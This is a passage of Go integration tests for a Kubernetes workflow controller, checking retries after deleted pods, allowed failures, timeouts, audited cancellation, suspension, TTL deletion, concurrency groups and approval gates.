		t.Errorf("kstatus = %s, want Failed", got)
	}
	ready := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionReady)
	if ready == nil || ready.Status != metav1.ConditionFalse || !strings.Contains(ready.Message, "call") {
		t.Errorf("Ready condition %+v should say which step failed", ready)
	}
	if n := len(jobs(t, wf)); n != 2 {
		t.Errorf("%d Jobs, want exactly one per attempt (2)", n)
	}
}

// TestWorkflowReconciler_podDeleted: a step whose pod is deleted while it runs (not evicted) fails
// with reason PodDeleted and a message naming the pod, whether the pod went at once or its
// container was stopped first; retries.when can retry exactly that.
func TestWorkflowReconciler_podDeleted(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	ctx := ctxT(t)
	wf := apply(t, ns, `
metadata: {name: pod-deleted}
spec:
  steps:
  - {name: sync, image: example.com/s:1, retries: {limit: 3, backoff: {duration: 1s}, when: "reason == 'PodDeleted'"}}
`)
	started := func(attempt int32, finalizers ...string) (*batchv1.Job, *corev1.Pod) {
		t.Helper()
		job := jobOf(t, wf, "sync", attempt)
		pod := createPod(t, job, "r4nd0")
		if len(finalizers) > 0 {
			pod.Finalizers = finalizers
			if err := env.Client.Update(ctx, pod); err != nil {
				t.Fatal(err)
			}
		}
		eventually(t, "the pod recorded in status", func() error {
			if st := stepOf(get(t, wf), "sync"); st.Attempt != attempt || st.PodName != pod.Name {
				return errorf("attempt %d, pod %q", st.Attempt, st.PodName)
			}
			return nil
		})
		if len(finalizers) == 0 {
			removePod(t, pod) // gone at once
			return job, pod
		}
		if err := env.Client.Delete(ctx, pod); err != nil {
			t.Fatal(err)
		}
		return job, pod
	}
	// Retrying lasts a second (the backoff): its Event says why the attempt failed.
	retried := func(attempt int32, why string) {
		t.Helper()
		eventually(t, fmt.Sprintf("a Retrying Event for attempt %d", attempt), func() error {
			for _, note := range stepEvents(t, wf, custodyv1alpha1.StepReasonRetrying)["sync"] {
				if strings.Contains(note, why) {
					return nil
				}
			}
			return errorf("Retrying Events %q, want one saying %q", stepEvents(t, wf, custodyv1alpha1.StepReasonRetrying)["sync"], why)
		})
		if st := stepOf(get(t, wf), "sync"); st.LastFailureReason != custodyv1alpha1.StepReasonPodDeleted {
			t.Errorf("attempt %d: lastFailureReason %q, want PodDeleted", attempt, st.LastFailureReason)
		}
	}

	// Attempt 1: the pod is gone at once (KWOK, or a pod whose kubelet is gone).
	job, pod := started(1)
	finishJob(t, job, false, batchv1.JobReasonBackoffLimitExceeded)
	retried(1, "(PodDeleted): its pod "+pod.Name+" was deleted before the step container ended")

	// Attempt 2: the kubelet stops the container of the pod marked for deletion, then it goes.
	job, pod = started(2, "custody.test/hold")
	eventually(t, "the stopped container recorded", func() error {
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(pod), pod); err != nil {
			return err
		}
		pod.Status.Phase = corev1.PodFailed
		pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: jobspec.ContainerName, State: corev1.ContainerState{
			Terminated: &corev1.ContainerStateTerminated{ExitCode: 143, Reason: "Error", FinishedAt: metav1.NewTime(pod.DeletionTimestamp.Add(time.Second))}}}}
		return env.Client.Status().Update(ctx, pod)
	})
	// The controller reads the pod from its cache when the Job fails: give the watch ample time to
	// bring it the stopped container (nothing it writes shows that it has).
	time.Sleep(2 * time.Second)
	finishJob(t, job, false, batchv1.JobReasonBackoffLimitExceeded)
	retried(2, "(PodDeleted): its pod "+pod.Name+" was deleted before the step container ended (the container then exited with code 143)")
	pod.Finalizers = nil
	if err := env.Client.Update(ctx, pod); err != nil {
		t.Fatal(err)
	}

	// Attempt 3 fails by itself: the container's exit, not retried.
	fail(t, wf, "sync", 3)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "sync"); st.Reason != custodyv1alpha1.StepReasonJobFailed ||
		!strings.HasSuffix(st.Message, "the step container exited with code 1 (Error); not retried: retries.when is false") {
		t.Errorf("attempt 3: %s (%s): %s, want JobFailed, not retried", st.Phase, st.Reason, st.Message)
	}
}

// A step with onFailure: Continue fails without failing the workflow: its dependents run (and can
// see that it failed), the other steps go on, and so does a finally step's allowed failure.
func TestWorkflowReconciler_onFailureContinue(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: allowed}
spec:
  steps:
  - {name: lint, image: example.com/l:1, onFailure: Continue, retries: {limit: 1, backoff: {duration: 1s}}}
  - {name: build, image: example.com/b:1}
  - name: lint-report
    dependsOn: [lint]
    when: "steps['lint'].phase == 'Failed'"
    image: example.com/r:1
  - {name: publish, image: example.com/p:1, dependsOn: [lint, build]}
  finally:
  - {name: notify, image: example.com/n:1, onFailure: Continue}
`)
	fail(t, wf, "lint", 1)
	fail(t, wf, "lint", 2)
	wf = waitStep(t, wf, "lint", custodyv1alpha1.StepFailed)
	if st := stepOf(wf, "lint"); st.Reason != custodyv1alpha1.ReasonRetriesExhausted || !strings.HasPrefix(st.Message, "Failure allowed (onFailure: Continue)") {
		t.Errorf("lint: %s (%s) %q, want Failed (RetriesExhausted) saying the workflow goes on", st.Phase, st.Reason, st.Message)
	}
	if wf.Status.Phase != custodyv1alpha1.WorkflowRunning {
		t.Errorf("workflow %s after lint failed, want Running", wf.Status.Phase)
	}
	// No fail fast: build, started before, goes on; the dependents of lint run.
	succeed(t, wf, "build", 1, "")
	succeed(t, wf, "lint-report", 1, "")
	succeed(t, wf, "publish", 1, "")
	fail(t, wf, "notify", 1)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	if got := kstatusOf(t, wf); got != status.CurrentStatus {
		t.Errorf("kstatus = %s, want Current", got)
	}
	ready := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionReady)
	if ready == nil || ready.Status != metav1.ConditionTrue || !strings.Contains(ready.Message, "onFailure: Continue): lint, notify") {
		t.Errorf("Ready condition %+v should name the steps whose failure was allowed", ready)
	}
	for _, name := range []string{"lint", "notify"} {
		if st := stepOf(wf, name); st.Phase != custodyv1alpha1.StepFailed {
			t.Errorf("%s: %s, want Failed (its failure stays visible)", name, st.Phase)
		}
	}
	eventually(t, "the Succeeded Event naming the allowed failures", func() error {
		for _, msg := range stepEvents(t, wf, custodyv1alpha1.ReasonSucceeded)[""] {
			if strings.Contains(msg, "lint, notify") {
				return nil
			}
		}
		return errorf("no Succeeded Event naming lint and notify: %v", stepEvents(t, wf, custodyv1alpha1.ReasonSucceeded))
	})
}

func TestWorkflowReconciler_stepTimeout(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: slow}
spec:
  steps: [{name: wait, image: example.com/w:1, timeout: 90s}]
`)
	job := jobOf(t, wf, "wait", 1)
	if d := job.Spec.ActiveDeadlineSeconds; d == nil || *d != 90 {
		t.Fatalf("Job activeDeadlineSeconds = %v, want 90", d)
	}
	finishJob(t, job, false, batchv1.JobReasonDeadlineExceeded)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	if st := stepOf(wf, "wait"); st.Reason != custodyv1alpha1.ReasonTimedOut {
		t.Errorf("step reason %q, want TimedOut", st.Reason)
	}
}

func TestWorkflowReconciler_workflowTimeout(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: bounded}
spec:
  timeout: 5s
  steps:
  - {name: long, image: example.com/l:1}
  - {name: next, image: example.com/n:1, dependsOn: [long]}
`)
	job := jobOf(t, wf, "long", 1)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowFailed)
	for _, name := range []string{"long", "next"} {
		if st := stepOf(wf, name); st.Phase != custodyv1alpha1.StepCancelled || st.Reason != custodyv1alpha1.ReasonTimedOut {
			t.Errorf("%s: %s (%s), want Cancelled (TimedOut)", name, st.Phase, st.Reason)
		}
	}
	if c := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionStalled); c == nil || c.Reason != custodyv1alpha1.ReasonTimedOut {
		t.Errorf("Stalled condition %+v, want reason TimedOut", c)
	}
	eventually(t, "the running Job to be deleted", func() error {
		cur := &batchv1.Job{}
		err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(job), cur)
		if isNotFound(err) || (err == nil && !cur.DeletionTimestamp.IsZero()) {
			return nil
		}
		return errorf("Job still there (err %v)", err)
	})
}

func TestWorkflowReconciler_cancelMidRun(t *testing.T) {
	t.Parallel()
	ns, logs := setupAudited(t)
	wf := apply(t, ns, `
metadata: {name: cancel-me}
spec:
  steps:
  - {name: first, image: example.com/f:1}
  - {name: second, image: example.com/s:1, dependsOn: [first]}
`)
	job := jobOf(t, wf, "first", 1)
	// As admission leaves it when bob runs kubectl custody cancel --reason.
	cur := get(t, wf)
	patch := client.MergeFrom(cur.DeepCopy())
	cur.Spec.Cancel = true
	cur.Annotations = map[string]string{custodyv1alpha1.AnnotationCancelledBy: "bob",
		custodyv1alpha1.AnnotationCancelReason: "the release\nwas called off"}
	if err := env.Client.Patch(ctxT(t), cur, patch); err != nil {
		t.Fatal(err)
	}
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowCancelled)
	const why = "The workflow was cancelled by bob: the release was called off"
	for _, name := range []string{"first", "second"} {
		if st := stepOf(wf, name); st.Phase != custodyv1alpha1.StepCancelled || st.Message != why {
			t.Errorf("%s is %s (%q), want Cancelled (%q)", name, st.Phase, st.Message, why)
		}
	}
	if c := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionReady); c == nil || c.Message != why {
		t.Errorf("Ready condition %+v, want the message %q", c, why)
	}
	if notes := waitStepEvents(t, wf, "", custodyv1alpha1.ReasonCancelled); !slices.Contains(notes, why) {
		t.Errorf("the workflow's Cancelled Events say %q, want %q", notes, why)
	}
	eventually(t, "the running Job to be deleted", func() error {
		err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(job), &batchv1.Job{})
		if isNotFound(err) {
			return nil
		}
		return errorf("Job still there (err %v)", err)
	})
	if got := kstatusOf(t, wf); got != status.FailedStatus {
		t.Errorf("kstatus = %s, want Failed (Stalled) for a cancelled workflow", got)
	}
	// The decision outlives the run's Events and status: one audit line says who cancelled it and why.
	checkAudit(t, auditLines(t, logs, "Workflow cancelled"), map[string]any{"action": "cancel", "actor": "bob",
		"reason": "the release was called off", "workflowUID": string(wf.UID)})
}

// checkAudit checks that there is exactly one audit line and that it has the fields want.
func checkAudit(t *testing.T, lines []map[string]any, want map[string]any) {
	t.Helper()
	if len(lines) != 1 {
		t.Errorf("%d audit lines %v, want one", len(lines), lines)
		return
	}
	for k, v := range want {
		if !reflect.DeepEqual(lines[0][k], v) {
			t.Errorf("audit line %v: %s is %v, want %v", lines[0], k, lines[0][k], v)
		}
	}
}

// TestWorkflowReconciler_stoppedPodsAreWaitedFor: nothing starts beside an attempt that ended but
// whose pod still runs. A retry waits for the previous attempt's pod (its Job deleted by a
// person, the pod still terminating); after a cancel, the finally step and the run's end wait for
// the stopped step's pod, while its identity and credentials are revoked at once.
func TestWorkflowReconciler_stoppedPodsAreWaitedFor(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	ctx := ctxT(t)
	wf := apply(t, ns, `
metadata: {name: migrate}
spec:
  concurrencyGroup: schema
  steps:
  - {name: migrate, image: example.com/m:1, retries: {limit: 1, backoff: {duration: 1s}}}
  finally:
  - {name: unlock, image: example.com/u:1}
`)
	// Attempt 1's Job is deleted (kubectl delete job): its pod is marked for deletion and
	// terminates in its grace period.
	job1 := jobOf(t, wf, "migrate", 1)
	pod1 := startPod(t, job1)
	hold := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":["custody.test/hold"]}}`))
	if err := env.Client.Patch(ctx, pod1, hold); err != nil {
		t.Fatal(err)
	}
	if err := env.Client.Delete(ctx, job1, client.PropagationPolicy(metav1.DeletePropagationBackground)); err != nil {
		t.Fatal(err)
	}
	if err := env.Client.Delete(ctx, pod1); err != nil {
		t.Fatal(err)
	}
	want := "attempt 2 starts once pod " + pod1.Name + " has stopped"
	eventually(t, "the retry to wait for attempt 1's pod", func() error {
		st := stepOf(get(t, wf), "migrate")
		if st.Phase != custodyv1alpha1.StepRetrying || !strings.Contains(st.Message, want) {
			return errorf("step migrate %s (%s): %s", st.Phase, st.Reason, st.Message)
		}
		return nil
	})
	job2 := &batchv1.Job{}
	err := env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: jobspec.Name(wf.Name, string(wf.UID), "migrate", 2)}, job2)
	if !isNotFound(err) {
		t.Fatalf("attempt 2's Job exists while attempt 1's pod runs (err %v)", err)
	}
	// The kubelet stops the container: attempt 2 starts.
	endPod(t, pod1, 143)
	job2 = jobOf(t, wf, "migrate", 2)
	release := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`))
	if err := env.Client.Patch(ctx, pod1, release); client.IgnoreNotFound(err) != nil {
		t.Fatal(err)
	}

	// Attempt 2 runs when the run is cancelled: its Job is deleted, and its pod, which the
	// garbage collector deletes in the background, holds the finally step and the run's end.
	pod2 := startPod(t, job2)
	eventually(t, "attempt 2's pod recorded", func() error {
		if st := stepOf(get(t, wf), "migrate"); st.PodName != pod2.Name {
			return errorf("step migrate's pod is %q", st.PodName)
		}
		return nil
	})
	next := apply(t, ns, `
metadata: {name: migrate-next}
spec:
  concurrencyGroup: schema
  steps:
  - {name: migrate, image: example.com/m:1}
`)
	waitStep(t, next, "migrate", custodyv1alpha1.StepPending)
	cancelRun(t, wf)
	cur := waitStopping(t, wf, pod2.Name)
	if st := stepOf(cur, "migrate"); st.Phase != custodyv1alpha1.StepCancelled {
		t.Errorf("step migrate is %s, want Cancelled at once", st.Phase)
	}
	if st := stepOf(cur, "unlock"); st.Phase != custodyv1alpha1.StepPending || !strings.Contains(st.Message, pod2.Name) {
		t.Errorf("finally step unlock %s: %q, want Pending, waiting for pod %s", st.Phase, st.Message, pod2.Name)
	}
	if err := env.Client.Get(ctx, client.ObjectKeyFromObject(job2), &batchv1.Job{}); !isNotFound(err) {
		t.Errorf("attempt 2's Job not deleted (err %v)", err)
	}
	if st := stepOf(get(t, next), "migrate"); st.Reason != custodyv1alpha1.ReasonWaitingForConcurrencyGroup || len(jobs(t, next)) > 0 {
		t.Errorf("the group's next run started (%s: %s) while the cancelled run's pod runs", st.Reason, st.Message)
	}
	removePod(t, pod2)
	succeed(t, wf, "unlock", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowCancelled)
	jobOf(t, next, "migrate", 1) // the group's next run takes its turn
}

// TestWorkflowReconciler_unreachablePodIsNotWaitedForever: a stopped attempt's pod still shown
// running past its deletion's grace period (its node is unreachable) holds the run only
// PodStopMargin longer.
func TestWorkflowReconciler_unreachablePodIsNotWaitedForever(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t)
	startController(t, ns, func(r *Reconciler) { r.PodStopMargin = time.Second })
	wf := apply(t, ns, `
metadata: {name: lost}
spec:
  steps:
  - {name: a, image: example.com/a:1}
`)
	pod := startPod(t, jobOf(t, wf, "a", 1))
	if err := env.Client.Delete(ctxT(t), pod, client.GracePeriodSeconds(5)); err != nil {
		t.Fatal(err)
	}
	cancelRun(t, wf)
	waitStopping(t, wf, pod.Name)
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowCancelled)
	if err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(pod), pod); err != nil || pod.Status.Phase != corev1.PodRunning {
		t.Fatalf("pod %s: %v, phase %s; the test wants it still shown running", pod.Name, err, pod.Status.Phase)
	}
	if wf.Status.CompletionTime.Before(pod.DeletionTimestamp) {
		t.Errorf("the run ended at %s, before its pod's grace period ended at %s", wf.Status.CompletionTime, pod.DeletionTimestamp)
	}
}

// TestWorkflowReconciler_suspendHoldsSteps: while a workflow is suspended, running steps go on and
// end, but no step starts: neither one whose dependencies ended nor a retry whose backoff passed;
// the Ready condition, kstatus and Events say so. Resumed, they start.
func TestWorkflowReconciler_suspendHoldsSteps(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: held}
spec:
  steps:
  - {name: a, image: example.com/w:1}
  - {name: b, image: example.com/w:1, dependsOn: [a]}
  - {name: c, image: example.com/w:1, retries: {limit: 1, backoff: {duration: 1s}}}
`)
	jobOf(t, wf, "a", 1)
	jobOf(t, wf, "c", 1)
	setSuspend(t, wf, true)
	eventually(t, "the workflow to say it is suspended", func() error {
		ready := meta.FindStatusCondition(get(t, wf).Status.Conditions, custodyv1alpha1.ConditionReady)
		if ready == nil || ready.Reason != custodyv1alpha1.ReasonSuspended || !strings.Contains(ready.Message, "running: a, c") {
			return errorf("Ready %+v", ready)
		}
		return nil
	})
	succeed(t, wf, "a", 1, "")
	fail(t, wf, "c", 1)
	cur := waitStep(t, wf, "b", custodyv1alpha1.StepPending)
	eventually(t, "b to be held by the suspension", func() error {
		cur = get(t, wf)
		if st := stepOf(cur, "b"); st.Reason != custodyv1alpha1.ReasonSuspended {
			return errorf("b %s (%s): %s", st.Phase, st.Reason, st.Message)
		}
		if st := stepOf(cur, "c"); st.Phase != custodyv1alpha1.StepRetrying || !strings.Contains(st.Message, "suspended") {
			return errorf("c %s (%s): %s", st.Phase, st.Reason, st.Message)
		}
		return nil
	})
	time.Sleep(2 * time.Second) // past c's backoff: still no attempt 2
	if n := len(jobs(t, wf)); n != 2 {
		t.Fatalf("%d Jobs while suspended, want a's and c's first attempt only", n)
	}
	if got := kstatusOf(t, wf); got != status.InProgressStatus {
		t.Errorf("kstatus of a suspended run = %s, want InProgress", got)
	}
	setSuspend(t, wf, false)
	jobOf(t, wf, "b", 1)
	jobOf(t, wf, "c", 2)
	succeed(t, wf, "b", 1, "")
	succeed(t, wf, "c", 2, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	eventually(t, "one Suspended and one Resumed Event", func() error {
		if r := eventReasons(t, wf); r[custodyv1alpha1.ReasonSuspended] != 1 || r[custodyv1alpha1.ReasonResumed] != 1 {
			return errorf("Events %v", r)
		}
		return nil
	})
}

func TestWorkflowReconciler_ttlDeletesFinishedWorkflow(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: short-lived}
spec:
  ttlAfterFinished: 2s
  steps: [{name: only, image: example.com/o:1}]
`)
	succeed(t, wf, "only", 1, "")
	waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)
	waitGone(t, wf)
}

// TestWorkflowReconciler_defaultTTL: with the controller's --default-ttl-after-finished, a finished
// Workflow that sets no ttlAfterFinished of its own is deleted after the default, and an Event
// says whose TTL it was; one that sets its own keeps to it.
func TestWorkflowReconciler_defaultTTL(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t)
	startController(t, ns, func(r *Reconciler) { r.DefaultTTLAfterFinished = 2 * time.Second })
	plain := apply(t, ns, `
metadata: {name: plain}
spec:
  steps: [{name: only, image: example.com/o:1}]
`)
	kept := apply(t, ns, `
metadata: {name: kept}
spec:
  ttlAfterFinished: 1h
  steps: [{name: only, image: example.com/o:1}]
`)
	succeed(t, plain, "only", 1, "")
	succeed(t, kept, "only", 1, "")
	waitPhase(t, kept, custodyv1alpha1.WorkflowSucceeded)
	waitGone(t, plain) // without a ttlAfterFinished: after the default
	eventually(t, "the TTLExpired Event", func() error {
		want := "Deleted the workflow Succeeded after the controller's default ttlAfterFinished (--default-ttl-after-finished) of 2s"
		if notes := stepEvents(t, plain, "TTLExpired")[""]; len(notes) != 1 || notes[0] != want {
			return errorf("TTLExpired Events %q, want %q", notes, want)
		}
		return nil
	})
	time.Sleep(2 * time.Second) // the default has passed for kept too
	if err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(kept), &custodyv1alpha1.Workflow{}); err != nil {
		t.Errorf("the workflow with its own ttlAfterFinished of 1h: %v, want it kept", err)
	}
}

// TestWorkflowReconciler_concurrencyGroup: runs of one concurrency group start steps one run at a
// time, in the order they were created, the others saying what they wait for; other groups and
// runs without one are not held; the group stays held across a controller restart, and a waiting
// run can be cancelled.
func TestWorkflowReconciler_concurrencyGroup(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t)
	stop := startController(t, ns)
	run := func(name, group string) *custodyv1alpha1.Workflow {
		t.Helper()
		spec := ""
		if group != "" {
			spec = "concurrencyGroup: " + group
		}
		return apply(t, ns, fmt.Sprintf(`
metadata: {name: %s}
spec:
  %s
  steps:
  - {name: deploy, image: example.com/d:1}
  - {name: verify, image: example.com/v:1, dependsOn: [deploy]}
`, name, spec))
	}
	waits := func(wf *custodyv1alpha1.Workflow, words string) {
		t.Helper()
		eventually(t, wf.Name+" to wait for its group", func() error {
			cur := get(t, wf)
			st := stepOf(cur, "deploy")
			ready := meta.FindStatusCondition(cur.Status.Conditions, custodyv1alpha1.ConditionReady)
			if st.Phase != custodyv1alpha1.StepPending || st.Reason != custodyv1alpha1.ReasonWaitingForConcurrencyGroup ||
				!strings.Contains(st.Message, words) || ready == nil || ready.Reason != custodyv1alpha1.ReasonWaitingForConcurrencyGroup {
				return errorf("deploy %s (%s): %s; Ready %+v", st.Phase, st.Reason, st.Message, ready)
			}
			return nil
		})
	}
	noJobs := func(wfs ...*custodyv1alpha1.Workflow) {
		t.Helper()
		for _, wf := range wfs {
			if n := len(jobs(t, wf)); n != 0 {
				t.Fatalf("%s has %d Jobs while it waits for its group", wf.Name, n)
			}
		}
	}
	a := run("deploy-a", "prod")
	jobOf(t, a, "deploy", 1)
	b, c := run("deploy-b", "prod"), run("deploy-c", "prod")
	// Another group, and a run without one, are not held.
	jobOf(t, run("deploy-staging", "staging"), "deploy", 1)
	jobOf(t, run("no-group", ""), "deploy", 1)
	waits(b, "Waiting for workflow deploy-a of concurrency group prod to finish")
	waits(c, "deploy-a")
	// a holds the group until it finished, not only while its first step runs.
	succeed(t, a, "deploy", 1, "")
	jobOf(t, a, "verify", 1)
	noJobs(b, c)
	succeed(t, a, "verify", 1, "")
	waitPhase(t, a, custodyv1alpha1.WorkflowSucceeded)
	// b was created before c (or in the same second, and sorts first): its turn.
	jobOf(t, b, "deploy", 1)
	waits(c, "deploy-b")
	noJobs(c)
	// A new controller knows from b's status that b holds the group.
	stop()
	startController(t, ns)
	succeed(t, b, "deploy", 1, "")
	jobOf(t, b, "verify", 1)
	waits(c, "Waiting for workflow deploy-b of concurrency group prod to finish")
	noJobs(c)
	// A waiting run can be cancelled: it ends without starting anything.
	cancelRun(t, c)
	waitPhase(t, c, custodyv1alpha1.WorkflowCancelled)
	noJobs(c)
	succeed(t, b, "verify", 1, "")
	waitPhase(t, b, custodyv1alpha1.WorkflowSucceeded)
	if notes := waitStepEvents(t, b, "deploy", custodyv1alpha1.ReasonWaitingForConcurrencyGroup); !strings.Contains(notes[0], "deploy-a") {
		t.Errorf("b's Event while it waited: %q, want it to name deploy-a", notes)
	}
}

// TestWorkflowReconciler_deletedGroupRunKeepsItsPlaceUntilItsPodsStop: a run of a concurrency
// group deleted while under way (kubectl delete, or a GitOps tool pruning it) has its Jobs deleted
// and stays, holding its group, until its pods stopped; only then does the group's next run start.
func TestWorkflowReconciler_deletedGroupRunKeepsItsPlaceUntilItsPodsStop(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	run := func(name string) *custodyv1alpha1.Workflow {
		t.Helper()
		return apply(t, ns, `
metadata: {name: `+name+`}
spec:
  concurrencyGroup: prod
  steps:
  - {name: deploy, image: example.com/d:1}
`)
	}
	a := run("deploy-a")
	job := jobOf(t, a, "deploy", 1)
	pod := startPod(t, job)
	b := run("deploy-b")
	eventually(t, "deploy-b to wait for its group", func() error {
		if st := stepOf(get(t, b), "deploy"); st.Reason != custodyv1alpha1.ReasonWaitingForConcurrencyGroup {
			return errorf("deploy-b's deploy: %s (%s) %s", st.Phase, st.Reason, st.Message)
		}
		return nil
	})
	if err := env.Client.Delete(ctxT(t), a); err != nil {
		t.Fatal(err)
	}
	eventually(t, "deploy-a's Job to be deleted, and deploy-a to say it waits for its pod", func() error {
		if err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(job), &batchv1.Job{}); !isNotFound(err) {
			return errorf("Job %s: %v", job.Name, err)
		}
		if eventReasons(t, a)[custodyv1alpha1.ReasonStopping] == 0 {
			return errorf("no Stopping Event")
		}
		return nil
	})
	if err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(a), &custodyv1alpha1.Workflow{}); err != nil {
		t.Fatalf("deploy-a is gone while its pod runs: %v", err)
	}
	if n := len(jobs(t, b)); n != 0 {
		t.Fatalf("deploy-b started (%d Jobs) while deploy-a's pod runs", n)
	}
	removePod(t, pod) // the kubelet stopped it
	eventually(t, "deploy-a to go once its pod stopped", func() error {
		if err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(a), &custodyv1alpha1.Workflow{}); !isNotFound(err) {
			return errorf("deploy-a: %v", err)
		}
		return nil
	})
	jobOf(t, b, "deploy", 1)
}

// TestWorkflowReconciler_concurrencyLimit: with concurrencyLimit, that many runs of a group run at
// once, the others in creation order as places free up; a run with a smaller limit holds the
// group to it while it runs, and waits for it.
func TestWorkflowReconciler_concurrencyLimit(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t)
	startController(t, ns)
	run := func(name string, limit int) *custodyv1alpha1.Workflow {
		t.Helper()
		return apply(t, ns, fmt.Sprintf(`
metadata: {name: %s}
spec:
  concurrencyGroup: etl
  concurrencyLimit: %d
  steps: [{name: load, image: example.com/l:1}]
`, name, limit))
	}
	waits := func(wf *custodyv1alpha1.Workflow, words string) {
		t.Helper()
		eventually(t, wf.Name+" to wait for its group", func() error {
			st := stepOf(get(t, wf), "load")
			if st.Reason != custodyv1alpha1.ReasonWaitingForConcurrencyGroup || !strings.Contains(st.Message, words) {
				return errorf("load %s (%s): %s", st.Phase, st.Reason, st.Message)
			}
			if n := len(jobs(t, wf)); n != 0 {
				return errorf("%d Jobs while it waits", n)
			}
			return nil
		})
	}
	e1, e2 := run("etl-1", 2), run("etl-2", 2)
	jobOf(t, e1, "load", 1)
	jobOf(t, e2, "load", 1)
	e3 := run("etl-3", 2)
	waits(e3, "Waiting for workflows etl-1, etl-2 of concurrency group etl to finish (2 at a time)")
	x := run("etl-x", 1)
	waits(x, "Waiting for workflows etl-1, etl-2 of concurrency group etl to finish")
	// A place frees up: the oldest waiting run takes it, not the one that wants the group alone.
	succeed(t, e1, "load", 1, "")
	jobOf(t, e3, "load", 1)
	waits(x, "etl-2") // and etl-3, once x looks again
	succeed(t, e2, "load", 1, "")
	succeed(t, e3, "load", 1, "")
	jobOf(t, x, "load", 1)
	// x allows one run at a time: while it runs, a run that allows two waits.
	y := run("etl-y", 2)
	waits(y, "Waiting for workflow etl-x of concurrency group etl to finish")
	succeed(t, x, "load", 1, "")
	jobOf(t, y, "load", 1)
	succeed(t, y, "load", 1, "")
	waitPhase(t, y, custodyv1alpha1.WorkflowSucceeded)
}

func TestWorkflowReconciler_restartCreatesNoDuplicateJobs(t *testing.T) {
	t.Parallel()
	ns := env.Namespace(t)
	stop := startController(t, ns)
	wf := apply(t, ns, `
metadata: {name: restart}
spec:
  steps:
  - {name: a, image: example.com/w:1, retries: {limit: 1, backoff: {duration: 1s}}}
  - {name: b, image: example.com/w:1}
  - {name: c, image: example.com/w:1, dependsOn: [a, b]}
`)
	jobOf(t, wf, "a", 1)
	jobOf(t, wf, "b", 1)
	stop()

	// While no controller runs: a's attempt fails, b's succeeds.
	fail(t, wf, "a", 1)
	succeed(t, wf, "b", 1, "")

	startController(t, ns)
	succeed(t, wf, "a", 2, "")
	succeed(t, wf, "c", 1, "")
	wf = waitPhase(t, wf, custodyv1alpha1.WorkflowSucceeded)

	seen := map[string]int{}
	for _, j := range jobs(t, wf) {
		seen[j.Labels[custodyv1alpha1.LabelStep]+"/"+j.Labels[custodyv1alpha1.LabelAttempt]]++
	}
	want := map[string]int{"a/1": 1, "a/2": 1, "b/1": 1, "c/1": 1}
	if len(seen) != len(want) {
		t.Errorf("Jobs by step/attempt = %v, want %v", seen, want)
	}
	for k, n := range want {
		if seen[k] != n {
			t.Errorf("Jobs by step/attempt = %v, want exactly one per attempt %v", seen, want)
			break
		}
	}
}

func TestWorkflowReconciler_approvalGate(t *testing.T) {
	t.Parallel()
	ns, logs := setupAudited(t)
	wf := apply(t, ns, `
metadata: {name: pay}
spec:
  steps:
  - {name: check, image: example.com/c:1}
  - name: post-payment
    dependsOn: [check]
    image: example.com/p:1
    approval: {approvers: {groups: [finance-controllers]}}
`)
	succeed(t, wf, "check", 1, "")
	wf = waitStep(t, wf, "post-payment", custodyv1alpha1.StepWaitingForApproval)
	// Whoever waits learns who may approve, and how.
	if st, want := stepOf(wf, "post-payment"), "Waiting for approval by a member of group finance-controllers: "+
		"kubectl custody approve pay post-payment (the annotation approve.custody.dev/post-payment), "+
		"or kubectl custody reject pay post-payment --reason REASON"; st.Message != want {
		t.Errorf("post-payment says %q, want %q", st.Message, want)
	}
	ready := meta.FindStatusCondition(wf.Status.Conditions, custodyv1alpha1.ConditionReady)
	if ready == nil || ready.Reason != custodyv1alpha1.ReasonWaitingForApproval || !strings.Contains(ready.Message, "post-payment") {
		t.Errorf("Ready condition %+v should say the workflow waits for approval of post-payment", ready)
	}
	if n := len(jobs(t, wf)); n != 1 {
		t.Fatalf("%d Jobs before approval, want 1", n)
	}
	// kubectl get -o wide says why the workflow is not ready.
	if out := kubectl(t, "get", "cwf", "pay", "-n", ns, "-o", "wide"); !strings.Contains(out, "REASON") ||
		!strings.Contains(out, custodyv1alpha1.ReasonWaitingForApproval) || !strings.Contains(out, "post-payment") {
		t.Errorf("kubectl get -o wide printed\n%s\nwant the Ready reason and message", out)
	}
	cur := get(t, wf)
	patch := client.MergeFrom(cur.DeepCopy())
